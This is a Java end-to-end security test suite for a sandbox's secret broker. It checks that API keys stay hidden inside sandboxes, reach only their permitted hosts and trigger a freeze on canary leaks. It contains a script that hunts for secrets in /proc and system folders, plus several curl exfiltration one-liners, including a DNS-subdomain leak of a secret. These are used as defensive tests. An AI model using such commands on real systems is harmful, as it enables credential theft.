package dev.carrel.e2e.security;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.carrel.bench.ServerProcess;
import dev.carrel.e2e.Api;
import dev.carrel.e2e.Box;
import dev.carrel.e2e.Carrel;
import dev.carrel.engine.testkit.Eventually;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Base64;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Cases N05, N09, N10 and C03 for secrets that code uses without having them: it is the code in the
 * sandbox that wants the value, and has a server at hand that sends back all it gets.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class BrokerIT {
  private static final String API = "api.example.net";
  private static final String OTHER = "other.example.net";
  private static final String VALUE = "sk-live/9f8e7d6c+5b4a";
  private static final String ROTATED = "sk-live/second-value-77";
  private static final String BAIT = "bait-0123456789-abcdef";
  private static final String SECRETS = "/api/v1/vault/secrets";
  private static final Duration PATIENCE = Duration.ofSeconds(60);

  private EchoSite site;
  private ServerProcess server;
  private Api api;

  @BeforeAll
  void serve(@TempDir Path folder) throws Exception {
    site = new EchoSite(folder, API, OTHER);
    server = Carrel.start(folder.resolve("server"), settings());
    api = new Api(server.address(), server.token());
    api.post(SECRETS, secret("BAIT", BAIT).put("canary", true));
    addKey(api, VALUE);
  }

  @AfterAll
  void end() {
    api.close();
    server.close();
    site.close();
  }

  @BeforeEach
  void forget() {
    site.received.clear();
  }

  private Map<String, String> settings() {
    return Map.of(
        "CARREL_ENGINE_ALLOWED",
        Carrel.ENGINE + ",process",
        "CARREL_EGRESS_HOSTS",
        API + "=127.0.0.1," + OTHER + "=127.0.0.1",
        "CARREL_EGRESS_UPSTREAM_CA",
        site.certificate().toString());
  }

  private void addKey(Api to, String value) {
    ObjectNode key = secret("API_KEY", value);
    key.putArray("hosts").add(target(API));
    assertThat(to.post(SECRETS, key).status()).isEqualTo(201);
  }

  private static ObjectNode secret(String name, String value) {
    return Api.object().put("name", name).put("value", value);
  }

  private String target(String host) {
    return host + ":" + site.securePort();
  }

  private String url(String host, String path) {
    return "https://" + target(host) + path;
  }

  @ParameterizedTest
  @MethodSource("dev.carrel.e2e.Carrel#engines")
  void n10TheHostGetsTheValueAndTheSandboxDoesNot(String engine) {
    try (Box box = sandbox(api, engine, "API_KEY")) {
      for (String path : new String[] {"/whole", "/chunked"}) {
        String answer = ask(box, "bearer " + url(API, path));
        assertThat(answer).startsWith("200").contains("Bearer ***").doesNotContain(VALUE);
        assertThat(site.received.getLast()).contains("Bearer " + VALUE);
      }
      String basic =
          Base64.getEncoder().encodeToString(("me:" + VALUE).getBytes(StandardCharsets.UTF_8));
      assertThat(ask(box, "basic " + url(API, "/")))
          .startsWith("200")
          .doesNotContain(basic)
          .doesNotContain(basic.substring(5, 25));
      assertThat(site.received.getLast()).contains("Basic " + basic);
      assertThat(ask(box, "query " + url(API, "/"))).startsWith("200").doesNotContain("9f8e7d6c");
      assertThat(site.received.getLast()).contains("key=sk-live%2F9f8e7d6c%2B5b4a");
      assertThat(ask(box, "body " + url(API, "/"))).startsWith("200").contains("carrel-secret-");
      assertThat(site.received.getLast()).doesNotContain("9f8e7d6c");
    }
  }

  @Test
  void c03NothingInTheSandboxHasTheValue() {
    try (Box box = sandbox(api, Carrel.ENGINE, "API_KEY")) {
      assertThat(box.shell("printenv API_KEY")).matches("carrel-secret-[0-9a-f]{40}\nexit 0");
      JsonNode cell = box.python("import os; os.environ['API_KEY'][::-1]");
      assertThat(cell.toString()).contains("-terces-lerrac").doesNotContain(reversed(VALUE));
      assertThat(ask(box, "bearer " + url(API, "/"))).startsWith("200");
      String search =
          """
          import os, sys
          wanted = sys.argv[1][::-1].encode()
          places = ['/proc/%s/%s' % (p, f) for p in os.listdir('/proc') if p.isdigit() for f in ('environ', 'cmdline')]
          for root in ('/run', '/tmp', '/workspace', '/etc', '/dev/shm'):
              places += [os.path.join(folder, f) for folder, _, names in os.walk(root) for f in names]
          places.append('/run/carrel/egress/ca.pem')
          seen = 0
          for place in places:
              try: content = open(place, 'rb').read() if os.path.isfile(place) else b''
              except OSError: continue
              seen += 1
              assert wanted not in content, place
              assert b'PRIVATE KEY' not in content or not place.startswith('/run'), place
          print('looked at', seen > 20)
          """;
      box.put("search.py", search);
      assertThat(box.shell("python3 search.py " + reversed(VALUE)))
          .isEqualTo("looked at True\nexit 0");
      // Kernels differ in what they look at first: whose file it is, or what it lies on.
      assertThat(box.shell("echo x > /run/carrel/egress/ca.pem"))
          .containsAnyOf("Read-only file system", "Permission denied")
          .endsWith("exit 1");
    }
  }

  @Test
  void n10OtherProgramsKnowTheAuthority() {
    try (Box box = sandbox(api, Carrel.ENGINE, "API_KEY")) {
      String curl = "curl -s -H \"Authorization: Bearer $API_KEY\" " + url(API, "/") + " | rev";
      assertThat(reversed(box.shell(curl))).contains("Bearer ***").doesNotContain(VALUE);
      assertThat(site.received.getLast()).contains("Bearer " + VALUE);
      String node =
          """
          const http = require('http'), tls = require('tls');
          const [target, name] = process.argv.slice(2);
          http.request({host: '127.0.0.1', port: 3128, method: 'CONNECT', path: target, headers: {Host: target}})
            .on('connect', (answer, socket) => {
              const inside = tls.connect({socket, servername: name}, () => inside.write(
                `GET / HTTP/1.1\\r\\nHost: ${target}\\r\\nX-Key: ${process.env.API_KEY}\\r\\nConnection: close\\r\\n\\r\\n`));
              let all = '';
              inside.on('data', data => all += data);
              inside.on('end', () => console.log([...all].reverse().join('')));
            }).end();
          """;
      box.put("ask.js", node);
      String answer = box.shell("node ask.js " + target(API) + " " + API);
      assertThat(reversed(answer)).contains("HTTP/1.1 200").doesNotContain(VALUE);
      assertThat(site.received.getLast()).contains(VALUE);
    }
  }

  @ParameterizedTest
  @MethodSource("dev.carrel.e2e.Carrel#engines")
  void n10OtherHostsGetThePlaceholderAndAreNotLookedInto(String engine) throws Exception {
    try (Box box = sandbox(api, engine, "API_KEY");
        Box without = sandbox(api, engine)) {
      String own = Files.readString(site.certificate()).replaceAll("\\s", "");
      String other = ask(box, "say %s %s %s".formatted(target(OTHER), OTHER, target(OTHER)));
      assertThat(other.replaceAll("\\s", "")).startsWith(own);
      assertThat(site.received.getLast()).contains("carrel-secret-").doesNotContain(VALUE);
      String brokered = ask(box, "say %s %s %s".formatted(target(API), API, target(API)));
      assertThat(brokered.replaceAll("\\s", "")).doesNotContain(own);
      // The same host, where nobody has a placeholder for it, with the placeholder of another box.
      without.put("placeholder", box.exec("printf %s $API_KEY").get("stdout").asText());
      String stolen = ask(without, "say %s %s %s".formatted(target(API), API, target(API)));
      assertThat(stolen.replaceAll("\\s", "")).startsWith(own);
      assertThat(site.received.getLast()).contains("carrel-secret-").doesNotContain(VALUE);
      String plain = "http://%s:%d/".formatted(API, site.plainPort());
      assertThat(ask(box, "bearer " + plain)).startsWith("200");
      assertThat(site.received.getLast()).contains("carrel-secret-").doesNotContain(VALUE);
    }
  }

  @Test
  void n05OneNameAllTheWay() {
    try (Box box = sandbox(api, Carrel.ENGINE, "API_KEY")) {
      assertThat(ask(box, "say %s %s %s".formatted(target(API), OTHER, target(API))))
          .startsWith("failed");
      assertThat(ask(box, "say %s %s %s".formatted(target(API), API, target(OTHER))))
          .contains("HTTP/1.1 400 Egress malformed: Host is not " + target(API));
      assertThat(site.received).isEmpty();
      assertThat(ask(box, "say %s %s %s".formatted(target(API), API, target(API))))
          .contains("HTTP/1.1 200");
      assertThat(site.received).hasSize(1);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "curl -s \"http://PLAIN/?x=$(printf %s \"$BAIT\" | base64 | tr -d =)\"",
        "curl -s -H \"X-Log: $BAIT\" https://SECURE/",
        "printf 'begin %s last-words' \"$BAIT\" | curl -s -H 'Transfer-Encoding: chunked' -d @-"
            + " http://PLAIN/",
        "curl -s https://$(printf %s \"$BAIT\" | od -An -tx1 | tr -d ' \\n').example.com/"
      })
  void n09CanaryFreezesTheSandboxAndDoesNotLeave(String leak) {
    try (Box box = sandbox(api, Carrel.ENGINE, "API_KEY", "BAIT")) {
      String command =
          leak.replace("PLAIN", API + ":" + site.plainPort()).replace("SECURE", target(API));
      ObjectNode body = Api.object().put("command", command + "; sleep 1000");
      body.put("background", true);
      assertThat(api.post(box.path() + "/exec", body).status()).isLessThan(300);
      Eventually.holds(
          "the sandbox is frozen",
          PATIENCE,
          () -> api.get(box.path()).json().path("frozen").asText("").contains("BAIT"));
      assertThat(site.received.toString())
          .doesNotContain("bait-")
          .doesNotContain("last-words")
          .doesNotContain("YmFpdC");
    }
  }

  @Test
  void useIsOnRecordWithoutTheValue() {
    try (Box box = sandbox(api, Carrel.ENGINE, "API_KEY")) {
      assertThat(ask(box, "bearer " + url(API, "/"))).startsWith("200");
      String path = "/api/v1/audit?sandbox=" + box.id();
      Eventually.holds(
          "the use is on record",
          PATIENCE,
          () -> api.get(path).text().contains("\"secret.broker\""));
      assertThat(api.get(path).text()).contains(target(API), "API_KEY").doesNotContain(VALUE);
      assertThat(api.get(box.path() + "/egress/decisions").text())
          .contains("\"https\"")
          .doesNotContain(VALUE);
    }
  }

  /** Also what goes on running finds its placeholder good after the server was killed. */
  @Test
  void placeholderOutlivesServerAndValue(@TempDir Path own) throws Exception {
    String id;
    ServerProcess first = Carrel.start(own, settings());
    try (Api before = new Api(first.address(), first.token())) {
      addKey(before, VALUE);
      Box box = sandbox(before, Carrel.ENGINE);
      id = box.id();
      ObjectNode keep = Api.object().put("command", "printf %s $API_KEY > placeholder");
      keep.putArray("secrets").add("API_KEY");
      assertThat(before.post(box.path() + "/exec", keep).json().path("exit_code").asInt(-1))
          .isZero();
      first.kill();
    }
    try (ServerProcess second = Carrel.start(own, settings());
        Api after = new Api(second.address(), second.token());
        Box box = new Box(after, id, after.get("/api/v1/sandboxes/" + id).json())) {
      assertThat(ask(box, "bearer " + url(API, "/"))).startsWith("200").doesNotContain(VALUE);
      assertThat(site.received.getLast()).contains(VALUE);
      after.post(SECRETS + "/API_KEY/rotate", Api.object().put("value", ROTATED));
      assertThat(ask(box, "bearer " + url(API, "/"))).startsWith("200").doesNotContain(ROTATED);
      assertThat(site.received.getLast()).contains(ROTATED);
      after.call("DELETE", SECRETS + "/API_KEY", "");
      assertThat(ask(box, "unverified " + url(API, "/"))).startsWith("200");
      assertThat(site.received.getLast()).contains("carrel-secret-").doesNotContain(ROTATED);
    }
  }

  private Box sandbox(Api on, String engine, String... secrets) {
    ObjectNode request = Api.object().put("engine", engine);
    var allow = request.putObject("network").putArray("allow");
    allow.add(target(API)).add(target(OTHER)).add(API + ":" + site.plainPort());
    var names = request.putArray("secrets");
    for (String secret : secrets) {
      names.add(secret);
    }
    return on.create(request.toString());
  }

  /** The answer as it came in, masked by nobody on its way out. */
  private static String ask(Box box, String arguments) {
    try (InputStream script = BrokerIT.class.getResourceAsStream("broker.py")) {
      box.put("broker.py", new String(script.readAllBytes(), StandardCharsets.UTF_8));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    JsonNode result = box.exec("python3 broker.py " + arguments);
    assertThat(result.path("exit_code").asInt(-1)).as(result.toString()).isZero();
    return reversed(result.get("stdout").asText()).stripLeading();
  }

  private static String reversed(String text) {
    return new StringBuilder(text).reverse().toString();
  }
}
